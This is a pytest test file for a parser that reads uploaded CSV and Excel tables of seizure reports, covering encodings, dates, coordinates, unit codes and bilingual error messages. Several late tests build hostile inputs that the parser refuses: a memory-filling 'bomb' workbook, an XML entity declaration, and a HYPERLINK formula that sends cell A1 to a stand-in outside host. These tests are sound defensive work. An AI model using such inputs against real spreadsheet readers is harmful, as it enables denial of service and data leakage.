"""Reading a table: encodings, separators, dates, numbers, codes; and what is hostile."""

import io
import uuid
import zipfile
from contextlib import suppress
from datetime import UTC, date, datetime, time
from typing import Annotated
from zoneinfo import ZoneInfo

import msgspec
import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from ops.errors import MalformedRequest, TooLarge, Unacceptable
from ops.misfits import misfits
from ops.reports import vocabulary
from ops.reports.quantities import NotAQuantity, parse_quantity
from ops.reports.submission import Sender
from ops.uploads import service, templates
from ops.uploads.cells import (
    MonthFirst,
    Unreadable,
    moment_of,
    read_code,
    read_count,
    read_day,
    read_degrees,
    read_time,
)
from ops.uploads.columns import BY_NAME, COLUMNS, LANGUAGES, folded, headings
from ops.uploads.gather import Gathered, Reader
from ops.uploads.sheets import MOST_ROWS, read
from ops.uploads.words import SAID, in_language

UTC_ZONE = ZoneInfo("UTC")
HEAD = "reference;kind;date;time;latitude;longitude;class;type;quantity;measure;serial"
ROW = "A1;seizure;02/12/2020;14h05;13,1191;1,7989;firearm;pistol;1;piece;0012"


def reports(raw: bytes, unit: str = "BFA-DGD-01", language: str = "en") -> list[Gathered]:
    return Reader(read(raw), "KAFO-T", UTC_ZONE, unit, language).reports()


def workbook(rows: list[list[object]], sheet: str = "Reports") -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    page = book.add_worksheet(sheet)
    day, clock = book.add_format({"num_format": "dd/mm/yyyy"}), book.add_format({"num_format": "hh:mm"})
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            form = day if isinstance(value, date) else clock if isinstance(value, time) else None
            page.write_datetime(r, c, value, form) if form else page.write(r, c, value)
    book.close()
    return out.getvalue()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
def test_a_csv_says_the_same_in_every_encoding_that_spreadsheets_write(encoding: str) -> None:
    text = "Référence du rapport;Type de rapport;Date;Heure;Secteur;Remarque\r\nÉ1;Néant;2 déc. 2020;14:05;X;à côté\r\n"
    [report] = reports(text.encode(encoding))
    assert (report.reference, report.tree["kind"], report.tree["note"]) == ("É1", "nil", "à côté")
    assert report.tree["occurred_at"] == "2020-12-02T14:05:00Z"
    assert report.faults == []


@pytest.mark.parametrize("separator", [";", ",", "\t"])
@pytest.mark.parametrize("said", [False, True])
def test_the_separator_is_found_in_the_head_of_the_table(separator: str, said: bool) -> None:
    lines = [
        HEAD.replace(";", separator),
        '"A,1;2"' + ROW[2:].replace("13,1191;1,7989", '"13,1191";"1,7989"').replace(";", separator),
    ]
    text = "\r\n".join(([f"sep={separator}"] if said else []) + lines)
    [report] = reports(text.encode())
    assert report.reference == "A,1;2"
    assert report.tree["location"] == {"type": "Point", "coordinates": [1.7989, 13.1191]}
    assert report.rows == [3 if said else 2]


def test_a_workbook_gives_the_same_report_as_the_csv_of_it() -> None:
    head = HEAD.split(";")
    row = [
        "A1",
        "Saisie",
        date(2020, 12, 2),
        time(14, 5),
        13.1191,
        1.7989,
        "Arme à feu",
        "Pistolet",
        1,
        "piece",
        "0012",
    ]
    [of_book], [of_csv] = reports(workbook([head, row])), reports(f"{HEAD}\n{ROW}".encode())
    assert (of_book.id, of_book.faults, of_csv.faults) == (of_csv.id, [], [])
    assert of_book.tree["occurred_at"] == of_csv.tree["occurred_at"] == "2020-12-02T14:05:00Z"
    assert of_book.tree["lines"] == [{**of_csv.tree["lines"][0], "quantity": 1}]


def test_rows_of_one_reference_are_one_report_with_several_lines() -> None:
    more = "A1;;;;;;ammunition;cartridge;1 300;round;\nA1;seizure;;;;;ammunition;;x;round;"
    [report] = reports(f"{HEAD}\n{ROW}\n{more}".encode())
    assert report.rows == [2, 3, 4]
    assert [line["class"] for line in report.tree["lines"]] == ["firearm", "ammunition", "ammunition"]
    [other] = reports(f"{HEAD}\n{ROW}\nA1;nil;03/12/2020;;;;;;;;".encode())
    assert [(fault.row, fault.column) for fault in other.faults] == [(3, "kind"), (3, "date")]
    assert "row 2" in other.faults[0].detail


def test_ids_follow_from_operation_unit_and_reference_or_content_and_nothing_else() -> None:
    table = f"{HEAD}\n{ROW}".encode()
    [first], [again], [other] = reports(table), reports(table), reports(table, unit="BFA-DGD-02")
    assert first.id == again.id != other.id
    assert uuid.UUID(first.id).version == 5
    changed = reports(f"{HEAD}\n{ROW.replace('0012', '0013')}".encode())[0]
    assert changed.id == first.id
    bare, twin, third = reports(f"{HEAD}\n{ROW[2:]}\n{ROW[2:]}\n{ROW[2:].replace('0012', '0013')}".encode())
    assert len({bare.id, twin.id, third.id, first.id}) == 4
    assert [remark.detail for remark in twin.remarks] == ["is the same as row 2, word for word"]


@pytest.mark.parametrize(
    ("written", "read_as"),
    [("2020-12-02", (2, 12)), ("02/12/2020", (2, 12)), ("2.12.20", (2, 12)), ("2 December 2020", (2, 12)),
     ("2 déc. 2020", (2, 12)), ("1er août 2020", (1, 8)), ("٢/١٢/٢٠٢٠", (2, 12)), ("44167", (2, 12)),
     (44167.5, (2, 12)), (datetime(2020, 12, 2, tzinfo=UTC), (2, 12))],
)  # fmt: skip
def test_a_date_is_read_as_people_and_spreadsheets_write_it(written: object, read_as: tuple[int, int]) -> None:
    day = read_day(written, "en").day  # type: ignore[arg-type]
    assert (day.day, day.month, day.year) == (*read_as, 2020)


@pytest.mark.parametrize("written", ["12/31/2020", "31/02/2020", "yesterday", "2020-13-01", "", "12.2020", "9999999"])
def test_what_is_no_date_is_refused_in_words(written: str) -> None:
    with pytest.raises(Unreadable, match="write 2020-12-02"):
        read_day(written, "en")


def test_where_one_date_has_its_month_first_no_other_is_guessed() -> None:
    with pytest.raises(MonthFirst):
        read_day("12/31/2020", "en")
    rows = "\n".join(f";nil;{day};10:00;13;1;;;;;" for day in ("02/12/2020", "12/31/2020", "2020-12-05"))
    first, second, third = reports(f"{HEAD}\n{rows}".encode())
    assert [report.faults[0].column if report.faults else None for report in (first, second, third)] == [
        "date",
        "date",
        None,
    ]
    assert "row 3" in first.faults[0].detail


@pytest.mark.parametrize(
    "written", ["14:05", "14h05", "1405", "2:05 pm", "2.05 p.m.", "14:05:00", "١٤:٠٥", 0.58681, time(14, 5)]
)
def test_a_time_of_day_is_read_as_people_and_spreadsheets_write_it(written: object) -> None:
    assert read_time(written, "en") == time(14, 5)  # type: ignore[arg-type]


@pytest.mark.parametrize("written", ["25:00", "14:75", "13 pm", "noon", "0 am"])
def test_what_is_no_time_of_day_is_refused(written: str) -> None:
    with pytest.raises(Unreadable):
        read_time(written, "fr")


def test_an_hour_that_the_clocks_skip_is_refused_and_one_that_comes_twice_is_the_first() -> None:
    paris, skipped, twice = ZoneInfo("Europe/Paris"), read_day("2021-03-28", "en"), read_day("2021-10-31", "en")
    with pytest.raises(Unreadable, match="clocks change"):
        moment_of(skipped, time(2, 30), paris, "en")
    assert moment_of(twice, time(2, 30), paris, "en") == datetime(2021, 10, 31, 0, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    ("column", "written", "degrees"),
    [("latitude", "13,1191", 13.1191), ("latitude", "13.1191 S", -13.1191), ("longitude", "1°47'56.04\"E", 1.7989),
     ("longitude", "1,7989 O", -1.7989), ("latitude", "١٣٫٥", 13.5), ("latitude", -13.5, -13.5)],
)  # fmt: skip
def test_degrees_are_read_with_either_mark_and_with_their_letters(column: str, written: object, degrees: float) -> None:
    assert read_degrees(written, BY_NAME[column], "en") == pytest.approx(degrees, abs=1e-6)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("column", "written"), [("latitude", "91"), ("latitude", "1 E"), ("longitude", "181"), ("latitude", "north")]
)
def test_degrees_that_are_none_are_refused(column: str, written: str) -> None:
    with pytest.raises(Unreadable):
        read_degrees(written, BY_NAME[column], "en")


@given(st.integers(0, 10**9))
def test_a_count_is_read_with_any_grouping(n: int) -> None:
    assert read_count(f"{n:,}".replace(",", " "), "en") == n
    assert read_count(float(n), "en") == n


@pytest.mark.parametrize(
    "column", [column for column in COLUMNS if column.of and column.name != "type"], ids=lambda c: c.name
)
def test_every_code_and_every_label_of_it_is_its_code(column: object) -> None:
    for code in vocabulary.terms(column.of):  # type: ignore[attr-defined]
        for word in (code, *(vocabulary.label(column.of, code, language) for language in LANGUAGES)):  # type: ignore[attr-defined]
            found = read_code(word.upper(), column, "en")  # type: ignore[arg-type]
            labels = {folded(vocabulary.label(column.of, found, language)) for language in vocabulary.LANGUAGES}  # type: ignore[attr-defined]
            assert found == code or folded(word) in labels


def test_a_word_that_is_no_code_is_refused_with_what_is_near() -> None:
    with pytest.raises(Unreadable, match="vouliez-vous dire Munitions"):
        read_code("Munition", BY_NAME["class"], "fr")


@pytest.mark.parametrize("column", ["reference", "note"])
def test_a_control_character_is_refused_wherever_it_is_stored(column: str) -> None:
    row = {"kind": "nil", "date": "02/12/2020", "time": "14:05", "sector": "X"} | {column: "A\x001"}
    [judged] = service.judged(
        f"{';'.join(row)}\n{';'.join(row.values())}".encode(),
        "KAFO-T", UTC_ZONE, "BFA-DGD-01", "fr", {"BFA-DGD-01": Sender("BFA-DGD-01", "BFA-DGD", "BFA")},
    )  # fmt: skip
    assert [(f.column, f.detail) for f in judged.report.faults] == [(column, "contient un caractère illisible")]
    assert judged.submission is None


def cell_of_a_workbook(column: str, value: object) -> Gathered:
    """The report of a workbook with this in this cell."""
    row = dict(zip(HEAD.split(";"), ROW.split(";"), strict=True)) | {column: value}
    [report] = reports(workbook([list(row), list(row.values())]))
    return report


@pytest.mark.parametrize("column", ["reference", "serial", "make", "model", "calibre"])
@pytest.mark.parametrize("value", [123456789012345678, 1e15, date(2020, 3, 5), time(3, 5), True, False])
def test_a_mark_that_the_spreadsheet_has_made_something_else_of_is_refused(column: str, value: object) -> None:
    [fault] = cell_of_a_workbook(column, value).faults
    assert (fault.row, fault.column) == (2, column)
    assert "set the cell to text and write it again" in fault.detail


@pytest.mark.parametrize("column", ["reference", "serial"])
def test_a_number_with_a_fraction_is_no_serial_number(column: str) -> None:
    assert [fault.column for fault in cell_of_a_workbook(column, 5.1).faults] == [column]


def test_whole_numbers_and_calibres_are_marks_as_they_stand() -> None:
    assert cell_of_a_workbook("serial", 999_999_999_999_999).tree["lines"][0]["serial"] == "999999999999999"
    assert cell_of_a_workbook("reference", 17).reference == "17"
    assert cell_of_a_workbook("calibre", 7.62).tree["lines"][0]["calibre"] == "7.62"
    assert cell_of_a_workbook("model", 47).tree["lines"][0]["model"] == "47"
    assert cell_of_a_workbook("note", date(2020, 3, 5)).tree["note"] == "2020-03-05"


@pytest.mark.parametrize("written", ["1.23457E+17", "1,23457E+17", "1E+15"])
def test_a_serial_number_that_the_spreadsheet_has_shortened_in_a_csv_file_is_refused(written: str) -> None:
    [report] = reports(f"{HEAD}\n{ROW.replace('0012', written)}".encode())
    assert [(fault.column, "lost digits" in fault.detail) for fault in report.faults] == [("serial", True)]


@pytest.mark.parametrize("column", ["quantity", "latitude", "class"])
def test_true_is_no_one(column: str) -> None:
    assert [fault.column for fault in cell_of_a_workbook(column, True).faults] == [column]


MEASURE = BY_NAME["measure"]


@pytest.mark.parametrize("written", ["kgs", "Kgs", "all", "top", "try", "pen", "mad", "cup", "rub"])
def test_a_word_in_small_letters_is_no_currency_unless_the_line_is_of_cash(written: str) -> None:
    with pytest.raises(Unreadable, match="is not known here"):
        read_code(written, MEASURE, "en", "ammunition")
    assert read_code(written, MEASURE, "en", "cash") == written.upper()
    assert read_code(written.upper(), MEASURE, "en") == written.upper()


def test_kilograms_that_are_written_kgs_are_suggested_as_kg() -> None:
    with pytest.raises(Unreadable, match=r"did you mean kg\?"):
        read_code("kgs", MEASURE, "en", "drug")
    with pytest.raises(Unreadable, match=r"vouliez-vous dire kg \?"):
        read_code("kgs", MEASURE, "fr", "drug")


@pytest.mark.parametrize(
    ("written", "unit"),
    [("rounds", "round"), ("Pieces", "piece"), ("litres", "litre"), ("metres", "metre"), ("tablets", "tablet"),
     ("sticks", "stick"), ("boxes", "box"), ("grams", "g"), ("kilograms", "kg"), ("cartouches", "round"),
     ("boîtes", "box"), ("kilogramme", "kg")],
)  # fmt: skip
def test_a_unit_is_understood_in_the_plural(written: str, unit: str) -> None:
    assert read_code(written, MEASURE, "en", "ammunition") == unit


def test_whether_a_unit_may_be_a_currency_follows_from_what_its_row_is() -> None:
    row = ";seizure;02/12/2020;14:05;13;1;{};;12;{};"
    [cash, powder] = reports(f"{HEAD}\n{row.format('Cash', 'xof')}\n{row.format('explosive', 'xof')}".encode())
    assert cash.tree["lines"][0]["unit"] == "XOF"
    assert [fault.column for fault in powder.faults] == ["measure"]


def test_no_two_columns_share_a_heading() -> None:
    names = [folded(name) for column in COLUMNS for name in {column.name, column.en, column.fr}]
    assert set(names) == set(headings())
    for column in COLUMNS:
        assert headings()[folded(column.fr)] is headings()[folded(column.en)] is column


def test_unknown_and_repeated_columns_are_all_named() -> None:
    with pytest.raises(Unacceptable) as refused:
        read(b"kind;date;Serial numbr;kind\nnil;;;\n")
    assert [(fault.pointer, "Serial number" in fault.detail) for fault in refused.value.faults] == [
        ("/columns/3", True),
        ("/columns/4", False),
    ]


@pytest.mark.parametrize(
    "raw",
    [
        b"", b" \n", b"hello", b"a;b\n1;2", b"kind;date\n", b"%PDF-1.4", b"\xd0\xcf\x11\xe0old", b"PK\x03\x04rubbish",
        b'kind;date\n"open', b"kind;date\n1;2;3", b"\xff\xfe\x00\xd8",
    ],
)  # fmt: skip
def test_a_file_that_is_no_table_of_reports_has_a_plain_answer(raw: bytes) -> None:
    with pytest.raises(MalformedRequest):
        read(raw)


def test_too_many_rows_are_refused() -> None:
    with pytest.raises(TooLarge):
        read(b"kind;date\n" + b"nil;1\n" * (MOST_ROWS + 1))


def packed(**parts: bytes) -> bytes:
    """A good workbook with some of its parts exchanged."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook([["kind", "date"], ["nil", "x"]]))) as good,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bad,
    ):
        for name in good.namelist():
            bad.writestr(name, parts.get(name.rpartition("/")[2].partition(".")[0], good.read(name)))
    return out.getvalue()


SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'


@pytest.mark.parametrize(
    "sheet",
    [
        SHEET % (b'<row r="1"><c r="A1"><v>1</v></c></row>' + b" " * 60_000_000),
        SHEET % b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        SHEET % b'<row><c r="XFD1"><v>1</v></c></row>',
        SHEET % b'<row r="1"><c r="xfd1"><v>1</v></c></row>',
        SHEET % (b"<row>" + b"<c/>" * 5000 + b"</row>"),
        SHEET % (b"<row/>" * 9000),
    ],
    ids=["bomb", "corner", "wide", "lower case", "unnumbered cells", "unnumbered rows"],
)
def test_a_workbook_that_would_fill_the_memory_is_refused_before_it_is_read(sheet: bytes) -> None:
    with pytest.raises(TooLarge):
        read(packed(sheet1=sheet))


def test_entities_and_broken_parts_are_refused() -> None:
    for sheet in (b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + SHEET % b"", b"<worksheet", b""):
        with pytest.raises(MalformedRequest):
            read(packed(sheet1=sheet))


def test_a_formula_is_never_run_and_gives_the_value_that_was_kept() -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    page = book.add_worksheet()
    page.write_row(0, 0, ["kind", "date", "time", "sector", "note"])
    page.write_row(1, 0, ["nil", "2020-12-02", "10:00", "X"])
    page.write_formula(1, 4, '=HYPERLINK("http://elsewhere.example/"&A1)', None, "kept")
    book.close()
    [report] = reports(out.getvalue())
    assert report.tree["note"] == "kept"
    [of_csv] = reports(b"kind;date;time;sector;note\nnil;2020-12-02;10:00;X;=1+1\n")
    assert of_csv.tree["note"] == "=1+1"


@pytest.mark.parametrize("language", LANGUAGES)
def test_both_templates_are_read_back_as_a_table_without_rows(language: str) -> None:
    for raw in (templates.csv_template(language), templates.xlsx_template(language)):
        with pytest.raises(MalformedRequest, match="no row under them"):
            read(raw)


@given(st.binary(max_size=400))
def test_no_bytes_at_all_are_more_than_refused(raw: bytes) -> None:
    for data in (raw, b"kind;date;class;quantity\n" + raw):
        with suppress(MalformedRequest, TooLarge, Unacceptable):
            reports(data)


@given(
    st.lists(
        st.tuples(st.sampled_from([c.name for c in COLUMNS]), st.text(max_size=12)),
        min_size=3,
        max_size=12,
        unique_by=lambda p: p[0],
    )
)
def test_whatever_stands_in_the_cells_is_read_or_named(cells: list[tuple[str, str]]) -> None:
    head = ";".join(name for name, _ in cells)
    row = ";".join('"' + text.replace('"', '""') + '"' for _, text in cells)
    try:
        for report in reports(f"{head}\n{row}".encode("utf-8", "replace")):
            assert report.id
            assert all(fault.heading and fault.detail for fault in report.faults)
    except (MalformedRequest, TooLarge, Unacceptable):
        pass


def test_everything_is_said_in_both_languages() -> None:
    assert all(english and french and english != french for english, french in SAID.values())
    assert in_language("is required for firearm: it is counted in more than one unit", "fr").startswith(
        "est obligatoire pour firearm"
    )
    assert in_language("quite new", "fr") == "quite new"


def test_an_example_is_of_what_was_asked_for() -> None:
    class Asked(msgspec.Struct):
        at: Annotated[datetime, msgspec.Meta(tz=True)]
        evaluation: Annotated[str, msgspec.Meta(pattern="^[ABCX][1-4]$")]
        sha256: Annotated[str, msgspec.Meta(pattern="^[0-9a-f]{64}$")]

    def said(tree: dict[str, str]) -> str:
        [fault] = misfits({"at": "2020-12-02T14:05:00Z", "evaluation": "B2", "sha256": "0" * 64} | tree, Asked, "")
        return in_language(fault.detail, "fr")

    assert said({"at": "02/12/2020"}) == "n'a pas la forme voulue, p. ex. 2020-12-02T14:05:00Z"
    assert said({"at": "2020-12-02T14:05:00"}).endswith("p. ex. 2020-12-02T14:05:00Z")
    assert said({"evaluation": "good"}) == "n'a pas la forme voulue, p. ex. B2"
    assert said({"sha256": "x"}) == "n'a pas la forme voulue"


def test_a_doubtful_quantity_says_in_both_languages_what_can_be_written() -> None:
    with pytest.raises(NotAQuantity) as refused:
        parse_quantity("1.473", "kg")
    assert "JSON" not in str(refused.value)
    french = in_language(str(refused.value), "fr")
    assert french == "peut être 1473 ou 1.473 ; écrivez 1 473 pour le premier, 1.4730 pour le second"
